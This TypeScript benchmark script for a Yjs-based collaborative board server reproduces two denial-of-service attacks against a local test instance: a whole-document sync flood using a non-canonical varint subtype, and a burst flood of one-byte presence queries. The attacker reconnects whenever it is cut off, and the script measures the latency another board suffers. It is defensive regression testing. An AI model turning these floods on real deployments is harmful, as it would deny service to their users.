import * as encoding from 'lib0/encoding';
import * as Y from 'yjs';
import { hashSecret } from '../server/auth';
import { setLogSink } from '../server/log';
import { applyDocChanges, readBoard } from '../shared/boardDoc';
import type { DocChange } from '../shared/domain/changes';
import { createBoard } from '../shared/domain/createBoard';
import { sortedPrompts } from '../shared/domain/state';
import { keysBetween } from '../shared/fractionalIndex';
import { encodeAuth, MESSAGE_AWARENESS, MESSAGE_PRIVATE, MESSAGE_SYNC, PROTOCOL_VERSION } from '../shared/protocol';
import { randomId, randomJoinCode, randomToken } from '../shared/random';
import { WORKING_AGREEMENT_QUESTIONNAIRE } from '../shared/templates';
import { openStore } from './lib/fixtures';
import { LightClient } from './lib/lightClient';
import { RawWebSocket } from './lib/rawSocket';
import { makeDataDir, pinSelf, removeDataDirs, type ServerStats, type ServerUnderTest, startAccord } from './lib/servers';
import { sleep, summary } from './lib/stats';

/**
 * `node --import tsx bench/attacks.ts` — the denial-of-service attacks of issue 11 (items 1 and 2),
 * measured as another board's command round trip while they run. A facilitator on a quiet board
 * sends one command at a time; an attacker on another board of the same server (a child process
 * pinned to core 0, like `npm run bench`) floods it. Printed: the victim's round trip p50/p99
 * without and with each attack, and what the attacker got out of the server. The attacker
 * reconnects with the same identity whenever it is cut off, as a real one would.
 *
 *   --seconds=N   length of each phase (default 8)
 */

const args = process.argv.slice(2);
const PHASE_MS = Number(args.find((a) => a.startsWith('--seconds='))?.slice('--seconds='.length) ?? 8) * 1000;
/** Attack board: about 8 MB of notes, as in the issue (8.6 MB answers). */
const NOTES_PER_PROMPT = 1800;
const NOTE_CHARS = 500;
/** People present on the attack board (their presence states make up each query's answer). */
const PRESENT = 200;
/** Presence queries per burst: 10,000 one-byte messages are 70 KB on the wire. */
const QUERIES_PER_BURST = 10_000;
/** Time between the victim's commands: 15 a second, inside COMMANDS_PER_SECOND. */
const VICTIM_PERIOD_MS = 66;
/** Whole-document requests the sync attacker keeps in flight (one: it reads each answer before asking again, so it is never a slow consumer). */
const SYNC_IN_FLIGHT = 1;

setLogSink(() => {}, 'silent');

/** Sync step 1 with an empty state vector, its subtype written as the two-byte varint 0x80 0x00 (still 0). */
const WHOLE_DOCUMENT_PLEASE = Uint8Array.of(MESSAGE_SYNC, 0x80, 0x00, 0x01, 0x00);
const QUERY_AWARENESS = Uint8Array.of(3);

interface Boards {
  readonly victim: { boardId: string; facilitatorKey: string; promptIds: string[] };
  /** The big board the sync attacker asks for. */
  readonly big: { boardId: string; facilitatorKey: string; secret: string };
  /** The crowded board the presence attacker queries. */
  readonly crowded: { boardId: string; secrets: string[] };
}

/** Writes both boards straight into the store of `dataDir` (as tests/server/helpers.ts seedBoard does). */
async function buildBoards(dataDir: string): Promise<Boards> {
  const store = openStore(dataDir);
  const make = async (notesPerPrompt: number) => {
    const boardId = randomId();
    const facilitatorKey = randomToken(24);
    const doc = new Y.Doc();
    applyDocChanges(
      doc,
      createBoard({ boardId, template: WORKING_AGREEMENT_QUESTIONNAIRE, now: Date.now(), newId: randomId }),
      'seed',
    );
    const promptIds = sortedPrompts(readBoard(doc)!).map((p) => p.id);
    const changes: DocChange[] = [];
    for (const promptId of promptIds) {
      keysBetween(null, null, notesPerPrompt).forEach((order, i) => {
        const text = `note ${i} `.padEnd(NOTE_CHARS, 'x');
        changes.push({
          type: 'putNote',
          note: { id: randomId(), promptId, text, tag: null, themeId: null, order, author: null },
        });
      });
      changes.push({ type: 'patchPrompt', id: promptId, fields: { isRevealed: notesPerPrompt > 0 } });
    }
    changes.push({ type: 'setMeta', fields: { phase: 'group' } });
    applyDocChanges(doc, changes, 'seed');
    await store.createBoard(
      {
        id: boardId,
        joinCode: randomJoinCode(),
        facilitatorKeyHash: hashSecret(facilitatorKey),
        readerKeyHash: hashSecret(randomToken(24)),
        createdAt: Date.now(),
      },
      Y.encodeStateAsUpdate(doc),
    );
    return { boardId, facilitatorKey, promptIds, bytes: Y.encodeStateAsUpdate(doc).length };
  };
  const people = async (boardId: string, count: number) => {
    const secrets: string[] = [];
    for (let i = 0; i < count; i++) {
      const secret = randomToken(16);
      await store.addParticipant(boardId, randomId(), hashSecret(secret), 1_000_000, Date.now());
      secrets.push(secret);
    }
    return secrets;
  };
  const victim = await make(3);
  const big = await make(NOTES_PER_PROMPT);
  const crowded = await make(3);
  const [secret] = await people(big.boardId, 1);
  const secrets = await people(crowded.boardId, PRESENT + 1);
  await store.close();
  process.stdout.write(`big board: ${(big.bytes / 1e6).toFixed(1)} MB document; crowded board: ${PRESENT} people present\n`);
  return {
    victim,
    big: { boardId: big.boardId, facilitatorKey: big.facilitatorKey, secret: secret! },
    crowded: { boardId: crowded.boardId, secrets },
  };
}

/** What an attack got: answers and bytes received, and the close codes it was cut off with. */
interface AttackTally {
  answers: number;
  bytes: number;
  closes: Map<number, number>;
}

/**
 * Runs `attack` on a fresh authenticated socket until stopped, reconnecting (same secret) each
 * time the server closes it. `attack` gets each frame the server sends after the welcome.
 */
function runAttacker(
  url: string,
  secret: string,
  onReady: (send: (frame: Uint8Array) => void) => void,
  onFrame: (frame: { data: Buffer; length: number }, send: (frame: Uint8Array) => void) => boolean,
): { stop: () => Promise<AttackTally> } {
  const tally: AttackTally = { answers: 0, bytes: 0, closes: new Map() };
  let isStopped = false;
  let current: RawWebSocket | null = null;
  let closedOnce: () => void = () => {};
  const connect = () => {
    if (isStopped) return closedOnce();
    let isWelcomed = false;
    const ws = new RawWebSocket(url, {
      onOpen: () => ws.send(encodeAuth({ v: PROTOCOL_VERSION, participantSecret: secret })),
      onMessage: (message) => {
        tally.bytes += message.length;
        if (!isWelcomed && message.data[0] === MESSAGE_PRIVATE) {
          isWelcomed = true;
          onReady((frame) => ws.send(frame));
          return;
        }
        if (onFrame(message, (frame) => ws.send(frame))) tally.answers += 1;
      },
      onClose: (code) => {
        tally.closes.set(code, (tally.closes.get(code) ?? 0) + 1);
        // A real attacker would reconnect at once; a short pause keeps the count of sockets sane.
        setTimeout(connect, 20);
      },
    });
    current = ws;
  };
  connect();
  return {
    stop: async () => {
      isStopped = true;
      const closed = new Promise<void>((resolve) => {
        closedOnce = resolve;
      });
      current?.close();
      await Promise.race([closed, sleep(1000)]);
      return tally;
    },
  };
}

/** Item 1: whole-document requests whose subtype is the varint 0x80 0x00, a few in flight at a time. */
function syncFlood(url: string, secret: string) {
  return runAttacker(
    url,
    secret,
    (send) => {
      for (let i = 0; i < SYNC_IN_FLIGHT; i++) send(WHOLE_DOCUMENT_PLEASE);
    },
    ({ data }, send) => {
      // A sync step 2 (the server's answer): ask again.
      if (data[0] !== MESSAGE_SYNC || data[1] !== 1) return false;
      send(WHOLE_DOCUMENT_PLEASE);
      return true;
    },
  );
}

/** Item 2: bursts of one-byte presence queries; the next burst once most answers are in. */
function queryFlood(url: string, secret: string) {
  let outstanding = 0;
  const burst = (send: (frame: Uint8Array) => void) => {
    outstanding = QUERIES_PER_BURST;
    for (let i = 0; i < QUERIES_PER_BURST; i++) send(QUERY_AWARENESS);
  };
  return runAttacker(url, secret, burst, ({ data }, send) => {
    if (data[0] !== MESSAGE_AWARENESS) return false;
    outstanding -= 1;
    if (outstanding <= QUERIES_PER_BURST / 10) burst(send);
    return true;
  });
}

/**
 * Each present person renews their presence once in this interval, one after the other (y-protocols
 * drops states not renewed for 30 s; its clients renew every 15 s, each on its own schedule).
 */
const PRESENCE_RENEW_MS = 10_000;

/** People present on the crowded board, each publishing a 40-character name and renewing it. */
async function fillPresence(url: string, secrets: readonly string[]): Promise<{ clients: LightClient[]; stop(): void }> {
  const clients: LightClient[] = [];
  const clocks: number[] = [];
  const publish = (i: number) => {
    clocks[i] = (clocks[i] ?? 0) + 1;
    const state = encoding.createEncoder();
    encoding.writeVarUint(state, 1);
    encoding.writeVarUint(state, 1_000_000 + i);
    encoding.writeVarUint(state, clocks[i]);
    encoding.writeVarString(state, JSON.stringify({ user: { name: `Person ${i} `.padEnd(40, '.') } }));
    const frame = encoding.createEncoder();
    encoding.writeVarUint(frame, MESSAGE_AWARENESS);
    encoding.writeVarUint8Array(frame, encoding.toUint8Array(state));
    clients[i]?.sendRaw(encoding.toUint8Array(frame));
  };
  for (const secret of secrets) {
    const client = new LightClient({ url, auth: { v: PROTOCOL_VERSION, participantSecret: secret } });
    await client.opened.then(() => client.whenSynced(60_000));
    clients.push(client);
    publish(clients.length - 1);
  }
  let next = 0;
  const renew = setInterval(() => publish(next++ % clients.length), PRESENCE_RENEW_MS / clients.length);
  return {
    clients,
    stop() {
      clearInterval(renew);
      for (const client of clients) client.close();
    },
  };
}

/** The victim's round trips in one phase; a command still unanswered when the phase ends counts with its wait so far. */
interface Phase {
  readonly times: number[];
  readonly unanswered: number;
}

/** The victim: one command at a time on the quiet board for `ms`. */
async function roundTrips(victim: LightClient, promptIds: readonly string[], ms: number): Promise<Phase> {
  const times: number[] = [];
  const deadline = performance.now() + ms;
  let i = 0;
  while (performance.now() < deadline) {
    const next = performance.now() + VICTIM_PERIOD_MS;
    const sentAt = performance.now();
    const command = victim.command({ type: 'focusPrompt', promptId: promptIds[i++ % promptIds.length]! });
    const answered = await Promise.race([command, sleep(Math.max(0, deadline - sentAt)).then(() => null)]);
    if (answered === null) {
      times.push(performance.now() - sentAt);
      return { times, unanswered: 1 };
    }
    if (!answered.result.ok) throw new Error(`victim command refused: ${answered.result.error}`);
    times.push(answered.ms);
    await sleep(Math.max(0, next - performance.now()));
  }
  return { times, unanswered: 0 };
}

/** The server's event-loop delay and CPU time since the last call; null when it does not answer in time (starved). */
function statsOf(server: ServerUnderTest): Promise<ServerStats | null> {
  return server.stats().catch(() => null);
}

function line(name: string, { times, unanswered }: Phase, server: ServerStats | null, tally?: AttackTally): string {
  const s = summary(times);
  const waiting = unanswered > 0 ? ', the last still unanswered at the end' : '';
  const load = !server
    ? '; server did not report its event loop in time'
    : `; server event loop p99 ${Math.round(server.loop.p99Ms)} ms, max ${Math.round(server.loop.maxMs)} ms, CPU ${Math.round(server.cpuMs)} ms`;
  const attacker = tally
    ? `; attacker got ${tally.answers} answers, ${(tally.bytes / 2 ** 20).toFixed(0)} MiB, closes ${[...tally.closes].map(([code, n]) => `${code}×${n}`).join(' ') || 'none'}`
    : '';
  return `${name.padEnd(30)} victim round trip p50 ${s.p50} ms, p99 ${s.p99} ms, max ${s.max} ms (n=${s.n}${waiting})${load}${attacker}`;
}

async function main(): Promise<void> {
  pinSelf();
  const dataDir = makeDataDir();
  const boards = await buildBoards(dataDir);
  const server = await startAccord({ dataDir });
  try {
    const bigUrl = `${server.wsBase}/${boards.big.boardId}`;
    const crowdedUrl = `${server.wsBase}/${boards.crowded.boardId}`;
    const victim = new LightClient({
      url: `${server.wsBase}/${boards.victim.boardId}`,
      auth: { v: PROTOCOL_VERSION, facilitatorKey: boards.victim.facilitatorKey },
    });
    await victim.opened.then(() => victim.whenSynced());
    const present = await fillPresence(crowdedUrl, boards.crowded.secrets.slice(1));
    // Someone reads the big board too, so that its room is open (loaded from storage) before any phase is measured.
    const reader = new LightClient({ url: bigUrl, auth: { v: PROTOCOL_VERSION, facilitatorKey: boards.big.facilitatorKey } });
    await reader.opened.then(() => reader.whenSynced(60_000));

    await roundTrips(victim, boards.victim.promptIds, 1000);
    const attacks = {
      'sync flood (item 1)': () => syncFlood(bigUrl, boards.big.secret),
      'presence query flood (item 2)': () => queryFlood(crowdedUrl, boards.crowded.secrets[0]!),
    };
    for (const [name, attack] of Object.entries(attacks)) {
      await statsOf(server);
      const quiet = await roundTrips(victim, boards.victim.promptIds, PHASE_MS);
      process.stdout.write(`${line('no attack', quiet, await statsOf(server))}\n`);
      const attacker = attack();
      const times = await roundTrips(victim, boards.victim.promptIds, PHASE_MS);
      const tally = await attacker.stop();
      process.stdout.write(`${line(name, times, await statsOf(server), tally)}\n`);
      await sleep(2000);
    }
    victim.close();
    present.stop();
    reader.close();
  } finally {
    await server.stop();
    removeDataDirs();
  }
}

await main();
